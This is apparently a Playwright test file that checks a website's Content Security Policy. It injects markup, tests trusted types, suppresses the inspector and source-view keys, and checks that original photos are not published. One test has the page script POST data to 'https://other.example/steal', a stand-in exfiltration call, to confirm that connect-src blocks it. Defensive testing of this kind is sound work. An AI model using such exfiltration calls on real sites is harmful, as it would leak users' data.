import { globSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { root } from '../../scripts/build.ts';
import { postPath } from '../support/blog.ts';
import { expect, subPath, test } from '../support/fixtures.ts';
import { failScripts } from '../support/services.ts';
import injections from './injections.json' with { type: 'json' };

/* Tests the security policy and the deterrents. In every other test, the guard checks that no page violates its policy. */

// Records the policy directive that the page violated last, and whether it suppressed the last event. The listeners run
// after the page's own.
test.beforeEach(async ({ page, guard }) => {
	guard.allowLog(/Content Security Policy/, /Refused to connect|violates the document/, /TrustedHTML/);
	// The browser blocks the request, but the guard still sees it.
	guard.allowOrigin('https://other.example');
	await page.addInitScript(() => {
		const record = (notes: Record<string, string>) => Object.assign(document.documentElement.dataset, notes);
		document.addEventListener('securitypolicyviolation', ({ effectiveDirective: breach }) => record({ breach }));
		for (const type of ['keydown', 'contextmenu']) {
			addEventListener(type, (event) => {
				if (event instanceof KeyboardEvent && ['Control', 'Shift', 'Alt', 'Meta'].includes(event.key)) return;
				record({ heard: `${type} ${event.defaultPrevented}` });
			});
		}
	});
});

for (const { what, markup, directive } of injections) {
	test(`The policy blocks injected markup: ${what}`, async ({ page }) => {
		await page.route('**/about', async (route) => {
			const answer = await route.fetch();
			await route.fulfill({ response: answer, body: (await answer.text()).replace('</main>', `${markup}</main>`) });
		});
		await page.goto(`${subPath}/about`);
		if (markup.startsWith('<button')) await page.getByRole('button', { name: 'Win' }).click();
		await expect(page.locator('html')).toHaveAttribute('data-breach', directive);
		await expect(page).not.toHaveTitle('taken over');
	});
}

test('A script can neither write text as HTML nor call a host outside the policy', async ({ page }) => {
	await page.goto(`${subPath}/about`);
	const written = page.evaluate(() => {
		document.body.innerHTML = '<p>taken over</p>';
	});
	await expect(written).rejects.toThrow('TypeError');
	await expect(page.locator('html')).toHaveAttribute('data-breach', 'require-trusted-types-for');
	const call = page.evaluate(() => fetch('https://other.example/steal', { method: 'POST', body: 'text' }));
	await expect(call).rejects.toThrow('TypeError');
	await expect(page.locator('html')).toHaveAttribute('data-breach', 'connect-src');
});

for (const path of [`${subPath}/`, `${subPath}/landing-page`, postPath, `${subPath}/no-such-page`]) {
	test(`${path} suppresses context menu, inspector and source view if scripts fail`, async ({ page, guard }) => {
		guard.allowLog(/Failed to load resource|net::ERR_/);
		await failScripts(page);
		await page.goto(path);
		await page.getByRole('heading', { level: 1 }).click({ button: 'right' });
		const html = page.locator('html');
		await expect(html).toHaveAttribute('data-heard', 'contextmenu true');
		const keys = { F12: true, 'Control+C': false, 'Control+Shift+I': true, u: false, 'Control+U': true };
		for (const [key, isSuppressed] of Object.entries(keys)) {
			await page.keyboard.press(key);
			await expect(html, key).toHaveAttribute('data-heard', `keydown ${isSuppressed}`);
		}
		await expect(html).not.toHaveAttribute('data-breach');
	});
}

test('No original picture is published, because a photograph may tell where it was taken', () => {
	const originals = globSync('src/assets/**/*.{png,jpg,jpeg,webp}', { cwd: root });
	const contents = new Set(originals.map((file) => readFileSync(join(root, file), 'latin1')));
	expect(contents.size).toBeGreaterThan(0);
	const published = globSync('.local/e2e-root/_astro/*.*', { cwd: root });
	expect(published).not.toEqual([]);
	expect(published.filter((file) => contents.has(readFileSync(join(root, file), 'latin1')))).toEqual([]);
});
